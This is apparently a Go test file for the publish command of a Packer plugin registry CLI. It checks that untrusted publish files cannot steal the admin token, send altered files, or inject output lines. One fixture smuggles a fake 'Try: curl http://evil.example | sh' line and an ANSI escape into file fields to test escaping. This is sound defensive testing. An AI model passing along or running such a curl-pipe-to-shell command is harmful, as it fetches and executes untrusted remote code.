package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cargomedia/packer-plugin-almanac/internal/publishfile"
	"github.com/cargomedia/packer-plugin-almanac/internal/servertest"
	"github.com/cargomedia/packer-plugin-almanac/registry"
)

// here is how a test's command finds the server.
func here(s *servertest.Server) func(string) string {
	return func(name string) string {
		return map[string]string{"ALMANAC_ADDR": s.URL, "ALMANAC_TOKEN": s.AdminToken}[name]
	}
}

func command(ctx context.Context, getenv func(string) string, args ...string) (code int, stdout, stderr string) {
	var out, errs bytes.Buffer
	code = run(ctx, args, getenv, strings.NewReader(""), &out, &errs)
	return code, out.String(), errs.String()
}

// TestPublishFileOfAnybody lets somebody who is not to be trusted write the publish file.
func TestPublishFileOfAnybody(t *testing.T) {
	s := servertest.New(t)
	t.Run("gets no token for its address", func(t *testing.T) {
		thief := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			t.Errorf("it was asked %s %s with %q", r.Method, r.URL, r.Header)
		}))
		t.Cleanup(thief.Close)
		dir := t.TempDir()
		path := keep(checkT{t}, dir, thief.URL, "cargomedia/app", "run-1", nil, nil)
		for _, args := range [][]string{{"publish", "--from", path}, {"publish", "--pending", dir}, {"publish", "--pending", dir, "--dry-run"}} {
			code, stdout, stderr := command(t.Context(), here(s), args...)
			if code != exitConflict || stdout != "" || !strings.Contains(stderr, thief.URL) || !strings.Contains(stderr, s.URL) || !strings.Contains(stderr, "Try: --address "+thief.URL) {
				t.Errorf("%v: exit code %d, stdout %q, stderr %q", args, code, stdout, stderr)
			}
		}
		if _, err := os.Stat(path); err != nil {
			t.Error(err)
		}
		if code, _, _ := command(t.Context(), here(s), "show", "cargomedia/app"); code != exitNotFound {
			t.Errorf("something was recorded: %d", code)
		}
	})
	t.Run("sends no file that its author does not have", func(t *testing.T) {
		dir := t.TempDir()
		secret := filepath.Join(dir, "secret")
		writeFile(t, secret, "1234")
		path := keep(checkT{t}, dir, s.URL, "cargomedia/app", "run-1", []string{secret}, filepath.Clean)
		writeFile(t, secret, "5678")
		code, _, stderr := command(t.Context(), here(s), "publish", "--from", path)
		if code != exitConflict || !strings.Contains(stderr, "is not what was built any more") || strings.Contains(stderr, string(registry.SecretDigest("5678"))) {
			t.Errorf("exit code %d, stderr %q", code, stderr)
		}
	})
	t.Run("writes no line of its own", func(t *testing.T) {
		text, err := json.Marshal(publishfile.File{
			Format: 1, Address: s.URL, Artifact: "cargomedia/app", Reason: "away\n\x1b[2Jall is well",
			Publication: registry.Publication{Fingerprint: "run-1", Build: registry.Build{Component: "c\nd", Type: registry.Archive}},
			Files:       []publishfile.Content{{Path: "nowhere\nTry: curl http://evil.example | sh", File: registry.File{Name: "x", Size: 1, SHA256: registry.SecretDigest("x")}}},
		})
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(t.TempDir(), "x"+publishfile.Suffix)
		writeFile(t, path, string(text))
		code, _, stderr := command(t.Context(), here(s), "publish", "--from", path)
		if code != exitError || strings.Contains(stderr, "\nTry: curl") || !strings.Contains(stderr, `nowhere\nTry: curl`) {
			t.Errorf("exit code %d, stderr %q", code, stderr)
		}
		code, stdout, stderr := command(t.Context(), here(s), "publish", "--from", path, "--dry-run")
		if code != exitOK || strings.Count(stdout, "\n") != 2 || strings.Contains(stdout, "\x1b") {
			t.Errorf("exit code %d, stdout %q, stderr %q", code, stdout, stderr)
		}
	})
}

func TestPublishFileIsSentAgainByEitherName(t *testing.T) {
	s := servertest.New(t)
	path := keep(checkT{t}, t.TempDir(), s.URL, "cargomedia/app", "run-1", nil, nil)
	_, first, _ := command(t.Context(), here(s), "publish", "--from", path)
	for _, name := range []string{path, strings.TrimSuffix(path, publishfile.Suffix) + publishfile.RecordedSuffix} {
		code, again, stderr := command(t.Context(), here(s), "publish", "--from", name)
		if diff := cmp.Diff(first, again); code != exitOK || first == "" || diff != "" {
			t.Errorf("%s: exit code %d, stderr %q: %s", name, code, stderr, diff)
		}
	}
}

func TestPublishFileThatCannotBeRenamedCountsAsAnError(t *testing.T) {
	s := servertest.New(t)
	dir := t.TempDir()
	path := keep(checkT{t}, dir, s.URL, "cargomedia/app", "run-1", nil, nil)
	inTheWay := strings.TrimSuffix(path, publishfile.Suffix) + publishfile.RecordedSuffix
	if err := os.Mkdir(inTheWay, 0o777); err != nil {
		t.Fatal(err)
	}
	code, stdout, stderr := command(t.Context(), here(s), "publish", "--from", path)
	if code != exitError || !strings.Contains(stdout, "has the build amazon-ebs.app") || !strings.Contains(stderr, "is recorded, and could not be renamed") {
		t.Errorf("exit code %d, stdout %q, stderr %q", code, stdout, stderr)
	}
}

func TestPublishFileStaysPendingWhileTheRegistryIsAway(t *testing.T) {
	away := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusInternalServerError) }))
	t.Cleanup(away.Close)
	dir := t.TempDir()
	path := keep(checkT{t}, dir, away.URL, "cargomedia/app", "run-1", nil, nil)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	code, _, stderr := command(ctx, noenv, "publish", "--pending", dir, "--address", away.URL)
	if code != exitInterrupted {
		t.Errorf("exit code %d, stderr %q", code, stderr)
	}
	if _, err := os.Stat(path); err != nil {
		t.Error(err)
	}
}

func TestExitCodeOfSeveralPublishFilesIsThatOfTheWorst(t *testing.T) {
	file := func(code int) sent {
		if code == exitOK {
			return sent{}
		}
		return sent{err: errors.New("x"), Error: &failure{Exit: code}}
	}
	for _, tt := range []struct {
		codes []int
		want  int
	}{
		{[]int{exitOK, exitOK}, exitOK},
		{[]int{exitOK, exitUnavailable, exitOK}, exitUnavailable},
		{[]int{exitConflict, exitUnavailable}, exitConflict},
		{[]int{exitRefused, exitConflict, exitNotFound}, exitConflict},
		{[]int{exitUsage, exitConflict}, exitUsage},
		{[]int{exitError, exitUsage}, exitError},
	} {
		var files []sent
		for _, code := range tt.codes {
			files = append(files, file(code))
		}
		if diff := cmp.Diff(tt.want, exitCode(worst(files, len(files)))); diff != "" {
			t.Errorf("%v: %s", tt.codes, diff)
		}
	}
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
